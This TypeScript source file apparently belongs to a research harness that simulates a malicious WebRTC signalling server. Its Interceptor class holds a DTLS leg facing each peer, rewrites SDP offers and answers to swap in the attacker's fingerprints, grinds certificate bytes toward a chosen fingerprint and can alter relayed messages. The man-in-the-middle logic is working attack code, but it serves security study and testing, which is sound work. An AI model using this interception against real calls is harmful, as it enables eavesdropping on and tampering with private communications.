import { randomBytes } from "node:crypto";
import type { SignallingAttack } from "../../../src/attacks/attack.ts";
import { formatCandidate } from "../../../src/sdp/candidate.ts";
import { effectiveFacts, parseDescription } from "../../../src/sdp/description.ts";
import { type Fingerprint, fingerprintsOf } from "../../../src/sdp/fingerprint.ts";
import { counterpartOf, type LegName, type PeerName } from "../../../src/trace/parties.ts";
import type { FactListener } from "../actor.ts";
import { type LocalCertificate, makeLocalCertificate, withCertificate } from "../localCertificate.ts";
import type { Ports } from "../protocol.ts";
import type { PeerSignal, SignalInterceptor } from "../server/room.ts";
import type { AttackError } from "./attackError.ts";
import { Bridge } from "./bridge.ts";
import { Leg } from "./leg.ts";

export type LegCertificates = Readonly<Record<LegName, Promise<LocalCertificate>>>;

/** One operator, one pair of certificates: a victim that remembers the attacker's certificate sees it again in the next call. */
export function makeLegCertificates(report: FactListener): LegCertificates {
  return {
    "alice-leg": makeLocalCertificate("alice-leg", report),
    "bob-leg": makeLocalCertificate("bob-leg", report),
  };
}

/** What one interceptor needs of the process that it runs in. */
interface InterceptorContext {
  readonly attack: SignallingAttack;
  readonly localCertificates: LegCertificates;
  /** The legs' public ports. Left out: their own. */
  readonly ports?: Ports;
  readonly send: (to: PeerName, signal: PeerSignal) => void;
  readonly report: FactListener;
  /** Called when the attack's own code fails. */
  readonly onError: (error: AttackError) => void;
}

/**
 * The part of a malicious server that holds the two DTLS legs. Each peer is given the leg that faces it instead
 * of the other peer.
 */
export class Interceptor implements SignalInterceptor {
  readonly bridge: Bridge;
  /** Candidates of the peers that lie beyond the loopback interface, or are none. The legs do not use them. */
  readonly candidatesRefused: string[] = [];
  readonly #context: InterceptorContext;
  readonly #legs: Readonly<Record<PeerName, Leg>>;
  #offer: { readonly from: PeerName; readonly sdp: string } | undefined;
  #settled = false;

  /** Makes both legs' keys and sockets, so that no signal has to wait for them. */
  static async open(context: InterceptorContext): Promise<Interceptor> {
    const [alice, bob] = await Promise.all([openLeg("alice-leg", context), openLeg("bob-leg", context)]);
    return new Interceptor(context, { alice, bob });
  }

  private constructor(context: InterceptorContext, legs: Readonly<Record<PeerName, Leg>>) {
    this.#context = context;
    this.#legs = legs;
    const { attack, report, onError } = context;
    this.bridge = new Bridge(legs, { attack: attack.id, report, onError });
  }

  /** What each peer is shown in place of the other's. The caller's leg may still change it until the answer has passed. */
  get fingerprints(): Readonly<Record<PeerName, Fingerprint>> {
    const { alice, bob } = this.#legs;
    return { alice: alice.parameters.fingerprint, bob: bob.parameters.fingerprint };
  }

  async close(): Promise<void> {
    await Promise.all([this.#legs.alice.close(), this.#legs.bob.close()]);
  }

  pass(from: PeerName, signal: PeerSignal): PeerSignal | undefined {
    switch (signal.type) {
      case "offer":
        this.#offer = { from, sdp: signal.sdp };
        return this.#forward(counterpartOf(from), signal);
      case "answer":
        if (!this.#offer) return undefined;
        this.#settle(this.#offer, { from, sdp: signal.sdp });
        return this.#forward(counterpartOf(from), signal);
      case "candidate":
        this.#addCandidate(from, signal.candidate);
        return undefined;
      case "bye":
      case "telemetry":
        return signal;
    }
  }

  #forward(to: PeerName, signal: Extract<PeerSignal, { sdp: string }>): PeerSignal {
    const { parameters, candidate } = this.#legs[to];
    queueMicrotask(() => this.#context.send(to, { type: "candidate", candidate, sdpMLineIndex: 0 }));
    // The leg that answers takes the passive role, so that the peer sends the ClientHello (RFC 5763 §5).
    const setup = signal.type === "answer" ? ({ setup: "passive" } as const) : {};
    return { ...signal, sdp: this.#context.attack.description(signal.sdp, { ...parameters, ...setup }) };
  }

  #addCandidate(from: PeerName, candidate: string): void {
    // An empty one means end-of-candidates (RFC 8838 §13).
    if (candidate === "" || this.#legs[from].addRemoteCandidate(candidate)) return;
    this.candidatesRefused.push(candidate);
  }

  /**
   * The first answer settles everything: the last certificate can be chosen, and both legs connect. Later offers and
   * answers renegotiate what the peers send over these connections.
   */
  #settle(offer: { from: PeerName; sdp: string }, answer: { from: PeerName; sdp: string }): void {
    if (this.#settled) return;
    this.#settled = true;
    const { attack, report } = this.#context;
    const callerLeg = this.#legs[offer.from];
    const calleeLeg = this.#legs[answer.from];
    const caller = firstFingerprint(offer.sdp);
    const callee = firstFingerprint(answer.sdp);
    if (attack.settleCertificate && caller && callee) {
      const started = performance.now();
      const { der } = callerLeg.localCertificate;
      // The last bytes of a certificate belong to its signature.
      const template = { der, mutable: { offset: der.length - 6, length: 6 } };
      const calleeLegFingerprint = calleeLeg.parameters.fingerprint;
      const chosen = attack.settleCertificate({
        caller,
        callee,
        calleeLeg: calleeLegFingerprint,
        template,
      });
      callerLeg.localCertificate = withCertificate(callerLeg.localCertificate, chosen.certificate);
      const durationMs = performance.now() - started;
      report({
        kind: "certificate-ground",
        owner: callerLeg.owner,
        certificate: Buffer.from(chosen.certificate).toString("base64"),
        tries: chosen.tries,
        durationMs,
      });
    }
    if (attack.messages && caller && callee) {
      const genuine =
        offer.from === "alice" ? { alice: caller, bob: callee } : { alice: callee, bob: caller };
      this.bridge.alter = attack.messages({ genuine, legs: this.fingerprints, random: randomBytes });
    }
    // The leg that answered an offer is controlled; the one that made the offer is controlling (RFC 8445 §6.1.1).
    this.#connect(offer, "controlled");
    this.#connect(answer, "controlling");
  }

  #connect({ from, sdp }: { from: PeerName; sdp: string }, iceRole: "controlling" | "controlled"): void {
    const leg = this.#legs[from];
    const description = parseDescription(sdp);
    const { iceUfrag, icePwd, candidates } = effectiveFacts(description, 0) ?? description.session;
    for (const candidate of candidates) this.#addCandidate(from, formatCandidate(candidate));
    if (iceUfrag === undefined || icePwd === undefined) return;
    leg.connect({ iceUfrag, icePwd }, iceRole).catch((error: unknown) => {
      const why = error instanceof Error ? error.message : String(error);
      this.#context.report({ kind: "state", owner: leg.owner, of: "dtls", state: `failed: ${why}` });
    });
  }
}

function openLeg(owner: LegName, { localCertificates, ports, report }: InterceptorContext): Promise<Leg> {
  const publicPort = ports?.[owner];
  if (ports && publicPort === undefined) throw new Error(`the network gave the ${owner} no port`);
  return Leg.open({ owner, localCertificate: localCertificates[owner], publicPort, report });
}

function firstFingerprint(sdp: string): Fingerprint | undefined {
  return fingerprintsOf(sdp)[0]?.fingerprint;
}
